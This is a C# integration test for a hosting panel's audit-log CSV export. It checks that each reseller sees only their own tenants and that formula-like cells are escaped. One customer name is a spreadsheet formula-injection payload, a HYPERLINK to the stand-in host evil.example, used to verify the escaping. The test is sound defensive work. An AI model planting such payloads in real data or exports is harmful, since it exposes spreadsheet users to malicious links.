using System.Net;
using HostingPanel.Web.Tests.Api;
using HostingPanel.Web.Tests.Portal;

namespace HostingPanel.Web.Tests.Accounts;

/// <summary>
/// Issue 20.4's audit export: the filtered log as CSV, only the caller's tenants, and cells a tenant typed that a
/// spreadsheet would run as a formula written as text.
/// </summary>
[Collection(ApiCollection.Name)]
public sealed class AuditExportTests(ApiHostFixture host)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Export_IsTheCallersPartOfTheLog_AsCsv_AndFormulaCellsAreWrittenAsText()
    {
        var tag = Guid.NewGuid().ToString("N")[..8];
        // Reseller A names a customer as a formula (a DDE payload); the audit entry carries that name.
        var hostile = $"=HYPERLINK(\"http://evil.example/?{tag}\",\"click\")";
        using (var asA = host.CreateClient(host.A.ResellerKey))
        {
            await Api.Api.CreatedAsync(asA, "/api/v1/customers", new
            {
                name = hostile, email = $"formula-{tag}@customers.example", password = ApiHostFixture.Password,
                limits = new { maxDomains = 1, maxMailboxes = 1, diskQuotaMb = 10 },
            });
        }
        using (var asB = host.CreateClient(host.B.ResellerKey))
        {
            await Api.Api.CreatedAsync(asB, "/api/v1/customers", new
            {
                name = $"B only {tag}", email = $"b-only-{tag}@customers.example", password = ApiHostFixture.Password,
                limits = new { maxDomains = 1, maxMailboxes = 1, diskQuotaMb = 10 },
            });
        }

        using var resellerA = await PortalSession.SignInAsync(host, host.A.ResellerEmail, ApiHostFixture.Password);
        var response = await resellerA.Client.GetAsync("/audit/export?EntityType=Customer", Ct);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("audit-log.csv", response.Content.Headers.ContentDisposition?.ToString());
        var csv = await response.Content.ReadAsStringAsync(Ct);
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("time,actor,action,entityType,entityKey,detail,remoteAddress,customerId,resellerId", lines[0]);
        var row = Assert.Single(lines, l => l.Contains(tag));
        // The cell starts with an apostrophe inside quotes: a spreadsheet shows the text, it runs nothing.
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?" + tag, row);
        Assert.DoesNotContain(",=HYPERLINK", row);
        Assert.DoesNotContain("B only " + tag, csv);
        Assert.All(lines.Skip(1), l => Assert.Matches(@"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ,", l));

        // Reseller B's export has its own customer and nothing of A's.
        using var resellerB = await PortalSession.SignInAsync(host, host.B.ResellerEmail, ApiHostFixture.Password);
        var other = await resellerB.GetStringAsync("/audit/export");
        Assert.Contains("B only " + tag, other);
        Assert.DoesNotContain(tag + "\"", other.Replace("B only " + tag, ""));

        // A mailbox owner has no audit log at all; a filter that is not valid is refused.
        Assert.Equal(HttpStatusCode.BadRequest, await resellerA.StatusOfAsync("/audit/export?Actor=" + new string('x', 400)));
    }
}
